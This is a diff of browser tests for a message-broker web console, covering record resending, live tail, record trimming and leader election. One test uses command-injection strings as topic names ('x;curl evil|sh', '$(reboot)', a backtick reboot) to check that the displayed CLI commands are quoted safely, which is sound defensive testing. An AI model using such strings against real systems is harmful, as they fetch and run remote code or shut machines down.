@@ -3,11 +3,13 @@
 from __future__ import annotations
 
 import json
+import shlex
+from urllib.parse import quote
 
 import pytest
 from playwright.sync_api import expect
 
-from penstock.blocking import Consumer, Producer
+from penstock.blocking import Admin, Consumer, Producer
 from penstock.testing import EmbeddedBroker
 from tests.browser.eyes import Eyes
 
@@ -44,7 +46,7 @@ def test_the_newest_records_are_there_and_one_is_read_whole(looking: Eyes) -> No
     expect(value).to_contain_text(f'"exact": {BIG}')
     expect(value).to_contain_text(f'"huge": {HUGE}')
     assert "at=0%3A199" in looking.path
-    expect(looking.page.get_by_text("penstock consume orders -p 0 -o 199:200")).to_be_visible()
+    expect(looking.page.get_by_text("penstock consume -p 0 --offset=199 -n 1 orders")).to_be_visible()
 
 
 def test_a_link_to_an_offset_shows_it(looking: Eyes) -> None:
@@ -128,3 +130,85 @@ def test_stored_things_are_only_text(looking: Eyes) -> None:
     assert looking.page.title() == "hostile · Penstock"
     assert looking.page.locator("main img, main script").count() == 0
     expect(looking.row("null").first).to_be_visible()
+
+
+def test_what_is_sent_again_is_the_record_and_not_what_the_page_shows_of_it(
+    looking: Eyes, node: EmbeddedBroker
+) -> None:
+    key, value, headers = b"\x00\xff", b"\xfe" * 9_000, [("none", None), ("bytes", b"\xff\x01"), ("none", b"")]
+    with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
+        producer.send("exact", value, key=key, headers=headers).result()
+        producer.send("exact-copies", b"first").result()
+    looking.open("/topics/exact/messages?from=oldest&at=0:0")
+    looking.page.get_by_role("button", name="Send again").click()
+    looking.dialog.get_by_label("To topic").fill("exact-copies")
+    expect(looking.dialog.get_by_text("headers 3")).to_be_visible()
+    looking.dialog.get_by_role("button", name="Send again").click()
+    expect(looking.dialog.get_by_text("Done")).to_be_visible()
+    with Consumer("exact-copies", bootstrap_servers=node.bootstrap_servers, offset_reset="earliest") as consumer:
+        copies = [record for _, record in zip(range(2), consumer, strict=False)]
+    assert (copies[1].key, copies[1].value, list(copies[1].headers)) == (key, value, headers)
+
+
+def test_a_link_makes_no_command_of_its_own(looking: Eyes) -> None:
+    looking.pardon("40[04]")
+    for name in ("x;curl evil|sh", "$(reboot)", "`reboot`"):
+        for tab in ("messages", "partitions", "consumers", "access"):
+            looking.open(f"/topics/{quote(name, safe='')}/{tab}")
+            expect(looking.page.get_by_role("alert").first).to_be_visible()
+            looking.settled()
+            assert [each.inner_text() for each in looking.page.locator("code").all()] == []
+        looking.open(f"/groups/{quote(name, safe='')}")
+        looking.settled()
+        commands = [each.inner_text() for each in looking.page.locator("code").all()]
+        assert all(name in shlex.split(command) or name not in command for command in commands), commands
+    looking.open("/topics/-not-there/partitions")
+    expect(looking.page.locator("code").first).to_have_text("penstock topic create -- -not-there")
+
+
+def test_a_tail_that_has_ended_does_not_look_live_and_comes_back(looking: Eyes, node: EmbeddedBroker) -> None:
+    looking.pardon("40[49]")
+    with Admin(bootstrap_servers=node.bootstrap_servers) as admin:
+        admin.create_topic("goes", 1, 1)
+        looking.open("/topics/goes/messages?mode=tail")
+        expect(looking.page.get_by_text("Live", exact=True)).to_be_visible()
+        admin.delete_topic("goes")
+        expect(looking.page.get_by_text("Not live, trying again")).to_be_visible()
+        expect(looking.page.get_by_role("alert").first).to_be_visible()
+        admin.create_topic("goes", 1, 1)
+        expect(looking.page.get_by_text("Live", exact=True)).to_be_visible()
+    with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
+        producer.send("goes", b"is back").result()
+    expect(looking.row("is back")).to_be_visible()
+
+
+def test_old_records_are_deleted_after_their_topic_was_named(looking: Eyes, node: EmbeddedBroker) -> None:
+    with Admin(bootstrap_servers=node.bootstrap_servers) as admin:
+        admin.create_topic("old", 2, 1)
+        with Producer(bootstrap_servers=node.bootstrap_servers) as producer:
+            for number in range(20):
+                producer.send("old", b"v", partition=number % 2)
+        looking.open("/topics/old/partitions")
+        looking.page.get_by_role("button", name="Delete old records").click()
+        looking.dialog.get_by_role("combobox").nth(0).select_option("1")
+        looking.dialog.get_by_role("combobox").nth(1).select_option("offset")
+        looking.dialog.get_by_role("textbox").first.fill("4")
+        expect(looking.dialog.locator("code")).to_have_text("penstock topic trim --partition 1 --before 4 --yes old")
+        button = looking.dialog.get_by_role("button", name="Delete old records")
+        expect(button).to_be_disabled()
+        assert [each.start for each in admin.describe_topic("old").partitions] == [0, 0]
+        looking.dialog.get_by_role("textbox").last.fill("old")
+        button.click()
+        expect(looking.dialog.get_by_text("Done")).to_be_visible()
+        assert [each.start for each in admin.describe_topic("old").partitions] == [0, 4]
+
+
+def test_a_dialog_that_is_opened_does_nothing(looking: Eyes, node: EmbeddedBroker) -> None:
+    with Admin(bootstrap_servers=node.bootstrap_servers) as admin:
+        admin.create_topic("opened", 1, 1)
+        looking.open("/topics/opened/partitions")
+        with looking.page.expect_response(lambda reply: reply.url.endswith("/elect")) as reply:
+            looking.page.get_by_role("button", name="Elect preferred leaders").click()
+        assert "plan" in reply.value.json()
+        assert "done" not in reply.value.json()
+        expect(looking.dialog.get_by_text("0 partitions are led by another now.")).to_be_visible()
